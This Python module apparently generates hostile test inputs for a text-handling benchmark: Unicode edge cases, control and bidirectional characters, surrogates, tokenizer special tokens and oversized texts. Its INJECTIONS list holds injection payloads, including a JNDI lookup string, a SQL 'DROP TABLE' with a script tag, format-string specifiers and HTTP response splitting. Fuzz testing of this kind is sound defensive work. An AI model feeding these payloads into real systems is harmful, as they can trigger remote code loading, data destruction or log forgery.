"""Texts, from harmless to absurd; each holds a canary unless it is meant to be empty."""

from __future__ import annotations

from collections.abc import Callable
from random import Random

from benchmarks.hostile.case import MARK, canary
from benchmarks.hostile.contract import MAX_TEXT_BYTES

TWEETS = (
    "what a lovely awful day train late again happy sad the meeting moves to tuesday i hate love this service "
    "never ever thanks so much @anna https://example.org/x best worst concert cancelled proud tired :) :( !!!"
)
WORDS = TWEETS.split()
SPECIAL = (
    "<s>",
    "</s>",
    "<pad>",
    "<mask>",
    "[MASK]",
    "[CLS]",
    "[SEP]",
    "[PAD]",
    "[UNK]",
    "<|endoftext|>",
    "▁",
    "##ing",
)
EMOJI = "😀🔥❤️👩‍👩‍👧‍👦🏳️‍🌈🇩🇪🫠"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
CONTROLS = "".join(map(chr, [*range(32), *range(0x7F, 0xA0)]))
COMBINING = "".join(map(chr, range(0x300, 0x36F)))
ODD = "\ufffe\uffff\ufffd\ue000\U0010ffff\U000e0041ﷺꙮ⎛ⅷ½ßİıſ�"
SCRIPTS = (
    "これは日本語の文章です",
    "هذا نص عربي",
    "זהו טקסט",
    "यह हिन्दी है",
    "ข้อความภาษาไทย",
    "Это русский",
    "中文字符",
)
# What a careless log, template or parser would act upon.
INJECTIONS = (
    "\n[METRICS]Evil.ms:1|#Level:Model",
    "\n[PID]1",
    "\r\nHTTP/1.1 200 OK\r\n\r\n",
    "\x1b[2J\x1b]0;x\x07",
    "%s%n{0.__class__}${jndi:ldap://x}",
    "'; DROP TABLE x; --<script>",
    '{"text": "',
    "\x00",
)
BLANK = ("", " ", "\n\t\r", ZERO_WIDTH, BIDI, "\x00", "\u2028\u2029", "\u3000" * 100, CONTROLS)
SURROGATES = ("\ud800", "\udfff", "\udc80\ud83d", "\ud83d")
MOST_WORDS, LONGEST_WORD, LONGEST_FLOODS = 900, 20_000, (10, 10, 100, 100, 3000)


def good_texts() -> list[str]:
    """Texts whose answers are asked for alone first: from one word to more than a model reads."""
    rng = Random(1)
    lengths = (1, 2, 3, 5, 8, 13, 21, 34, 2, 5, 13, 13, 1, 2, 3, 5, 8, 13, 21, 34, 2, 5, 13, MOST_WORDS)
    return [
        f"{MARK}{number} " + words(rng, length) + rng.choice(("", " 😀", " é", "!", " <s>"))
        for number, length in enumerate(lengths)
    ]


def words(rng: Random, count: int) -> str:
    """Words of tweets."""
    return " ".join(rng.choices(WORDS, k=count))


def ordinary(rng: Random) -> str:
    """A text that nobody means badly."""
    return f"{words(rng, rng.randint(1, 30))} {canary(rng)}"


def _flood(rng: Random, alphabet: str) -> str:
    return canary(rng) + "".join(rng.choices(alphabet, k=rng.randint(1, rng.choice(LONGEST_FLOODS))))


def _laced(rng: Random, alphabet: str) -> str:
    return "".join(character + rng.choice(alphabet) for character in words(rng, rng.randint(1, 20))) + canary(rng)


def _at_the_limit(rng: Random) -> str:
    unit = rng.choice(("a", "a ", "é", "😀", "word ", "\u200b", "! "))
    start = canary(rng)
    room = MAX_TEXT_BYTES - len(start)
    text = start + unit * (room // len(unit.encode()))
    return text + "." * (MAX_TEXT_BYTES - len(text.encode()) + rng.choice((0, 0, 1)))


def _surrogate(rng: Random) -> str:
    text = words(rng, rng.randint(1, 20))
    place = rng.randint(0, len(text))
    return text[:place] + rng.choice(SURROGATES) + text[place:] + canary(rng)


def _any_characters(rng: Random) -> str:
    points = (rng.choice((rng.randrange(0xD800), rng.randrange(0xE000, 0x110000))) for _ in range(rng.randint(1, 200)))
    return canary(rng) + "".join(map(chr, points))


MAKERS: dict[str, tuple[float, Callable[[Random], str]]] = {
    "ordinary text": (12, ordinary),
    "long text": (1, lambda rng: canary(rng) + words(rng, rng.randint(100, MOST_WORDS))),
    "long word": (2, lambda rng: canary(rng) + rng.choice("aä😀漢0") * rng.randint(100, LONGEST_WORD)),
    "controls": (4, lambda rng: _laced(rng, CONTROLS)),
    "bidirectional": (4, lambda rng: _laced(rng, BIDI)),
    "zero-width": (4, lambda rng: _laced(rng, ZERO_WIDTH)),
    "combining": (3, lambda rng: _flood(rng, COMBINING)),
    "emoji flood": (3, lambda rng: _flood(rng, EMOJI)),
    "odd characters": (4, lambda rng: _flood(rng, ODD)),
    "any characters": (5, _any_characters),
    "other scripts": (4, lambda rng: canary(rng) + rng.choice(SCRIPTS) * rng.randint(1, 10)),
    "special tokens": (5, lambda rng: canary(rng) + "".join(rng.choices(SPECIAL, k=rng.randint(1, 60)))),
    "injection": (5, lambda rng: ordinary(rng) + rng.choice(INJECTIONS) + canary(rng)),
    "surrogate": (5, _surrogate),
    "blank": (5, lambda rng: rng.choice(BLANK)),
    "text at the limit": (0.15, _at_the_limit),
}


def hostile_text(rng: Random) -> tuple[str, str]:
    """A kind and a text of it."""
    kind = rng.choices(list(MAKERS), [weight for weight, _ in MAKERS.values()])[0]
    return kind, MAKERS[kind][1](rng)
